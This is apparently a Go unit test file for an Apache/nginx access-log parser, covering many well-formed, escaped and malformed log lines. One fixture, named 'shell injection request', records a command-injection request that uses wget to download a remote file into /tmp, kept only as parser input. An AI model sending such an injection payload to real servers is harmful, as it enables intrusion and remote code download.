package format

import (
	"testing"

	"github.com/socx/sharkfin/record"
)

func TestParser_Combined(t *testing.T) {
	const ua = "Mozilla/5.0 (X11; Linux x86_64)"
	tests := []struct {
		name string
		line string
		want want
	}{
		{
			name: "elastic combined",
			line: `83.149.9.216 - - [17/May/2015:10:05:03 +0000] "GET /presentations/logstash-monitorama-2013/images/kibana-search.png HTTP/1.1" 200 203023 "http://semicomplete.com/presentations/logstash-monitorama-2013/" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1)"`,
			want: want{time: "2015-05-17T10:05:03Z", client: "83.149.9.216", method: "GET",
				target: "/presentations/logstash-monitorama-2013/images/kibana-search.png", status: 200, bytes: 203023,
				referer: "http://semicomplete.com/presentations/logstash-monitorama-2013/", userAgent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1)"},
		},
		{
			name: "offset applied, user, HTTP/2.0",
			line: `198.51.100.7 - frank [17/Apr/2025:05:10:56 +0100] "GET /music/ HTTP/2.0" 200 10353 "-" "` + ua + `"`,
			want: want{time: "2025-04-17T04:10:56Z", client: "198.51.100.7", user: "frank", method: "GET", target: "/music/",
				status: 200, bytes: 10353, userAgent: ua},
		},
		{
			name: "negative offset crosses midnight",
			line: `203.0.113.36 - - [29/Sep/2015:21:15:18 -0400] "GET /xmlrpc.php HTTP/1.1" 404 162 "-" "-"`,
			want: want{time: "2015-09-30T01:15:18Z", client: "203.0.113.36", method: "GET", target: "/xmlrpc.php", status: 404, bytes: 162},
		},
		{
			name: "common line",
			line: `127.0.0.1 user-identifier frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326`,
			want: want{time: "2000-10-10T20:55:36Z", client: "127.0.0.1", user: "frank", method: "GET", target: "/apache_pb.gif", status: 200, bytes: 2326},
		},
		{
			name: "vhost_combined",
			line: `www.example.org:443 198.51.100.71 - - [01/Dec/2020:06:41:10 +0000] "GET / HTTP/1.1" 200 4875 "-" "` + ua + `"`,
			want: want{time: "2020-12-01T06:41:10Z", client: "198.51.100.71", host: "www.example.org", method: "GET", target: "/",
				status: 200, bytes: 4875, userAgent: ua},
		},
		{
			name: "vhost_combined proxy probe with absolute URI",
			line: `www.example.org:80 203.0.113.246 - - [01/Dec/2020:07:38:14 +0000] "GET http://example.com/ HTTP/1.1" 302 488 "-" "Go-http-client/1.1"`,
			want: want{time: "2020-12-01T07:38:14Z", client: "203.0.113.246", host: "www.example.org", method: "GET",
				target: "http://example.com/", status: 302, bytes: 488, userAgent: "Go-http-client/1.1"},
		},
		{
			name: "vhost_combined CONNECT",
			line: `www.example.org:80 203.0.113.246 - - [01/Dec/2020:07:38:14 +0000] "CONNECT www.example.org:443 HTTP/1.1" 302 498 "-" "Go-http-client/1.1"`,
			want: want{time: "2020-12-01T07:38:14Z", client: "203.0.113.246", host: "www.example.org", method: "CONNECT",
				target: "www.example.org:443", status: 302, bytes: 498, userAgent: "Go-http-client/1.1"},
		},
		{
			name: "vhost_common without port, ipv6 vhost and client",
			line: `[2001:db8::80]:80 2001:db8::1 - - [01/Dec/2020:07:38:14 +0000] "GET / HTTP/1.1" 200 5`,
			want: want{time: "2020-12-01T07:38:14Z", client: "2001:db8::1", host: "2001:db8::80", method: "GET", target: "/", status: 200, bytes: 5},
		},
		{
			name: "vhost without port",
			line: `www.example.com 192.0.2.1 - - [01/Dec/2020:07:38:14 +0000] "GET / HTTP/1.1" 200 5`,
			want: want{time: "2020-12-01T07:38:14Z", client: "192.0.2.1", host: "www.example.com", method: "GET", target: "/", status: 200, bytes: 5},
		},
		{
			name: "hostname client (HostnameLookups On)",
			line: `crawl-66-249-66-1.googlebot.com - - [01/Dec/2020:07:38:14 +0000] "GET /robots.txt HTTP/1.1" 200 5 "-" "Googlebot"`,
			want: want{time: "2020-12-01T07:38:14Z", client: "crawl-66-249-66-1.googlebot.com", method: "GET", target: "/robots.txt",
				status: 200, bytes: 5, userAgent: "Googlebot"},
		},
		{
			name: "escaped quotes in user agent",
			line: `192.0.2.15 - - [15/Nov/2020:09:27:46 +0000] "GET / HTTP/1.1" 200 3300 "-" "\"Mozilla/4.0 (compatible; MSIE 10.0)\""`,
			want: want{time: "2020-11-15T09:27:46Z", client: "192.0.2.15", method: "GET", target: "/", status: 200, bytes: 3300,
				userAgent: `\"Mozilla/4.0 (compatible; MSIE 10.0)\"`},
		},
		{
			name: "escaped quote in request and referer, escaped backslash before closing quote",
			line: `192.0.2.1 - - [15/Nov/2020:09:27:46 +0000] "GET /a\" HTTP/1.1" 404 0 "x\" y" "ua\\"`,
			want: want{time: "2020-11-15T09:27:46Z", client: "192.0.2.1", method: "GET", target: `/a\"`, status: 404,
				referer: `x\" y`, userAgent: `ua\\`},
		},
		{
			name: "nginx hex escapes",
			line: `192.0.2.1 - - [15/Nov/2020:09:27:46 +0000] "GET /\x22x HTTP/1.1" 404 0 "-" "a\x22b"`,
			want: want{time: "2020-11-15T09:27:46Z", client: "192.0.2.1", method: "GET", target: `/\x22x`, status: 404, userAgent: `a\x22b`},
		},
		{
			name: "unescaped quote inside request",
			line: `192.0.2.1 - - [15/Nov/2020:09:27:46 +0000] "GET /a" b HTTP/1.1" 400 226 "-" "-"`,
			want: want{time: "2020-11-15T09:27:46Z", client: "192.0.2.1", method: "GET", target: `/a" b`, status: 400, bytes: 226},
		},
		{
			name: "dash size",
			line: `192.0.2.1 - - [15/Nov/2020:09:27:46 +0000] "HEAD / HTTP/1.1" 304 - "-" "-"`,
			want: want{time: "2020-11-15T09:27:46Z", client: "192.0.2.1", method: "HEAD", target: "/", status: 304},
		},
		{
			name: "TLS handshake on plain HTTP",
			line: `192.0.2.12 - - [17/Nov/2020:17:07:16 +0000] "\x16\x03\x01\x01\"\x01" 400 0 "-" "-"`,
			want: want{time: "2020-11-17T17:07:16Z", client: "192.0.2.12", target: `\x16\x03\x01\x01\"\x01`, status: 400},
		},
		{
			name: "no request read (408)",
			line: `192.0.2.10 - - [01/Dec/2020:10:28:50 +0000] "-" 408 0 "-" "-"`,
			want: want{time: "2020-12-01T10:28:50Z", client: "192.0.2.10", status: 408},
		},
		{
			name: "empty request",
			line: `192.0.2.10 - - [01/Dec/2020:10:28:50 +0000] "" 400 0 "-" "-"`,
			want: want{time: "2020-12-01T10:28:50Z", client: "192.0.2.10", status: 400},
		},
		{
			name: "escaped newline request",
			line: `192.0.2.13 - - [18/Nov/2020:06:11:19 +0000] "\n" 400 3261 "-" "-"`,
			want: want{time: "2020-11-18T06:11:19Z", client: "192.0.2.13", target: `\n`, status: 400, bytes: 3261},
		},
		{
			name: "shell injection request",
			line: `192.0.2.14 - - [01/Dec/2020:13:32:40 +0000] "27;wget%20http://%s:%d/x.m%20-O%20->%20/tmp/x.m HTTP/1.0" 400 0 "-" "-"`,
			want: want{time: "2020-12-01T13:32:40Z", client: "192.0.2.14", target: "27;wget%20http://%s:%d/x.m%20-O%20->%20/tmp/x.m HTTP/1.0", status: 400},
		},
		{
			name: "lower-case garbage token",
			line: `192.0.2.11 - - [01/Dec/2020:09:41:28 +0000] "Gh0st\xad" 400 0 "-" "-"`,
			want: want{time: "2020-12-01T09:41:28Z", client: "192.0.2.11", target: `Gh0st\xad`, status: 400},
		},
		{
			name: "method only",
			line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0000] "GET" 400 0 "-" "-"`,
			want: want{time: "2020-12-01T09:41:28Z", client: "192.0.2.1", method: "GET", status: 400},
		},
		{
			name: "method and protocol, no target",
			line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0000] "GET HTTP/1.1" 400 0 "-" "-"`,
			want: want{time: "2020-12-01T09:41:28Z", client: "192.0.2.1", method: "GET", status: 400},
		},
		{
			name: "HTTP/0.9 request without protocol",
			line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0000] "GET /index.html" 200 10 "-" "-"`,
			want: want{time: "2020-12-01T09:41:28Z", client: "192.0.2.1", method: "GET", target: "/index.html", status: 200, bytes: 10},
		},
		{
			name: "raw spaces in target",
			line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0000] "GET /a b  HTTP/1.1" 400 0 "-" "-"`,
			want: want{time: "2020-12-01T09:41:28Z", client: "192.0.2.1", method: "GET", target: "/a b", status: 400},
		},
		{
			name: "extra trailing fields",
			line: `192.0.2.17 - - [25/Feb/2017:21:06:15 +0100] "GET /api/v1/x HTTP/1.1" 200 591 "referrer" "Mozilla/5.0" 0.008 995`,
			want: want{time: "2017-02-25T20:06:15Z", client: "192.0.2.17", method: "GET", target: "/api/v1/x", status: 200, bytes: 591,
				referer: "referrer", userAgent: "Mozilla/5.0"},
		},
		{
			name: "extra quoted field (X-Forwarded-For)",
			line: `192.0.2.18 - - [01/Dec/2020:18:25:11 +0100] "GET /administrator/ HTTP/1.1" 200 4263 "-" "Firefox/34.0" "-"`,
			want: want{time: "2020-12-01T17:25:11Z", client: "192.0.2.18", method: "GET", target: "/administrator/", status: 200, bytes: 4263,
				userAgent: "Firefox/34.0"},
		},
		{
			name: "common line with extra unquoted fields",
			line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0000] "GET / HTTP/1.1" 200 10 0.008`,
			want: want{time: "2020-12-01T09:41:28Z", client: "192.0.2.1", method: "GET", target: "/", status: 200, bytes: 10},
		},
		{
			name: "unterminated user agent (cut by the writer)",
			line: `46.118.127.106 - - [20/May/2015:12:05:17 +0000] "GET /x.py HTTP/1.1" 200 235 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html`,
			want: want{time: "2015-05-20T12:05:17Z", client: "46.118.127.106", method: "GET", target: "/x.py", status: 200, bytes: 235,
				userAgent: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html"},
		},
		{
			name: "empty user agent is kept empty",
			line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0000] "GET / HTTP/1.1" 200 10 "" ""`,
			want: want{time: "2020-12-01T09:41:28Z", client: "192.0.2.1", method: "GET", target: "/", status: 200, bytes: 10,
				referer: "<empty>", userAgent: "<empty>"},
		},
		{
			name: "status 000 and 499",
			line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0000] "GET / HTTP/1.1" 499 0 "-" "-"`,
			want: want{time: "2020-12-01T09:41:28Z", client: "192.0.2.1", method: "GET", target: "/", status: 499},
		},
		{
			name: "leap day and leap second",
			line: `192.0.2.1 - - [29/Feb/2016:23:59:60 +0000] "GET / HTTP/1.1" 200 1`,
			want: want{time: "2016-03-01T00:00:00Z", client: "192.0.2.1", method: "GET", target: "/", status: 200, bytes: 1},
		},
		{
			name: "multiple spaces between fields",
			line: `192.0.2.1  -  -  [01/Dec/2020:09:41:28 +0000]  "GET / HTTP/1.1"  200  10  "r"  "u"`,
			want: want{time: "2020-12-01T09:41:28Z", client: "192.0.2.1", method: "GET", target: "/", status: 200, bytes: 10,
				referer: "r", userAgent: "u"},
		},
		{name: "empty", line: "", want: want{err: ErrEmpty}},
		{name: "blank", line: " \t \r\n", want: want{err: ErrEmpty}},
		{name: "comment", line: "#Fields: date time", want: want{err: ErrNotLogLine}},
		{name: "too many fields before time", line: `a b c d e [01/Dec/2020:09:41:28 +0000] "GET / HTTP/1.1" 200 1`, want: want{err: ErrMalformed}},
		{name: "too few fields before time", line: `192.0.2.1 - [01/Dec/2020:09:41:28 +0000] "GET / HTTP/1.1" 200 1`, want: want{err: ErrMalformed}},
		{name: "no time", line: `192.0.2.1 - -`, want: want{err: ErrTruncated}},
		{name: "dash client", line: `- - - [01/Dec/2020:09:41:28 +0000] "GET / HTTP/1.1" 200 1`, want: want{err: ErrBadClient}},
		{name: "bad ipv4 client", line: `300.1.2.3 - - [01/Dec/2020:09:41:28 +0000] "GET / HTTP/1.1" 200 1`, want: want{err: ErrBadClient}},
		{name: "nginx unix socket client", line: `unix: - - [01/Dec/2020:09:41:28 +0000] "GET / HTTP/1.1" 200 1`, want: want{err: ErrBadClient}},
		{name: "user with space", line: `192.0.2.1 - john smith [01/Dec/2020:09:41:28 +0000] "GET / HTTP/1.1" 200 1`, want: want{err: ErrBadClient}},
		{name: "unclosed time", line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0000`, want: want{err: ErrTruncated}},
		{name: "feb 30", line: `192.0.2.1 - - [30/Feb/2020:09:41:28 +0000] "GET / HTTP/1.1" 200 1`, want: want{err: ErrBadTime}},
		{name: "bad month", line: `192.0.2.1 - - [01/Foo/2020:09:41:28 +0000] "GET / HTTP/1.1" 200 1`, want: want{err: ErrBadTime}},
		{name: "hour 24", line: `192.0.2.1 - - [01/Dec/2020:24:41:28 +0000] "GET / HTTP/1.1" 200 1`, want: want{err: ErrBadTime}},
		{name: "no zone", line: `192.0.2.1 - - [01/Dec/2020:09:41:28] "GET / HTTP/1.1" 200 1`, want: want{err: ErrBadTime}},
		{name: "bad zone", line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0075] "GET / HTTP/1.1" 200 1`, want: want{err: ErrBadTime}},
		{name: "before 1970", line: `192.0.2.1 - - [31/Dec/1969:23:59:59 +0000] "GET / HTTP/1.1" 200 1`, want: want{err: ErrBadTime}},
		{name: "1970 minus offset", line: `192.0.2.1 - - [01/Jan/1970:00:30:00 +0100] "GET / HTTP/1.1" 200 1`, want: want{err: ErrBadTime}},
		{name: "unquoted request", line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0000] GET / HTTP/1.1 200 1`, want: want{err: ErrBadRequest}},
		{name: "unterminated request", line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0000] "GET / HTTP/1.1`, want: want{err: ErrTruncated}},
		{name: "no request", line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0000]`, want: want{err: ErrTruncated}},
		{name: "no status", line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0000] "GET / HTTP/1.1"`, want: want{err: ErrTruncated}},
		{name: "bad status", line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0000] "GET / HTTP/1.1" 20x 1`, want: want{err: ErrBadStatus}},
		{name: "dash status", line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0000] "GET / HTTP/1.1" - 1`, want: want{err: ErrBadStatus}},
		{name: "no size", line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0000] "GET / HTTP/1.1" 200`, want: want{err: ErrTruncated}},
		{name: "bad size", line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0000] "GET / HTTP/1.1" 200 12k`, want: want{err: ErrBadSize}},
		{name: "huge size", line: `192.0.2.1 - - [01/Dec/2020:09:41:28 +0000] "GET / HTTP/1.1" 200 9999999999999999999`, want: want{err: ErrBadSize}},
		{name: "squid line", line: `1157689312.049 5006 10.105.21.199 TCP_MISS/200 19763 CONNECT login.yahoo.com:443 badeyek DIRECT/209.73.177.115 -`, want: want{err: ErrMalformed}},
	}
	p := Parser{Format: Combined}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var r record.Record
			line := []byte(tt.line)
			tt.want.check(t, line, &r, p.Parse(line, &r))
		})
	}
}

func TestParser_CommonIgnoresRefererAndUserAgent(t *testing.T) {
	p := Parser{Format: Common}
	lines := []string{
		`83.149.9.216 - - [17/May/2015:10:05:03 +0000] "GET /a HTTP/1.1" 200 203 "http://r.example/" "Mozilla/5.0"`,
		`83.149.9.216 - - [17/May/2015:10:05:03 +0000] "GET /a HTTP/1.1" 200 203`,
		`83.149.9.216 - - [17/May/2015:10:05:03 +0000] "GET /a HTTP/1.1" 200 203 0.123 "anything" [else`,
	}
	w := want{time: "2015-05-17T10:05:03Z", client: "83.149.9.216", method: "GET", target: "/a", status: 200, bytes: 203}
	for _, l := range lines {
		var r record.Record
		line := []byte(l)
		w.check(t, line, &r, p.Parse(line, &r))
	}
}
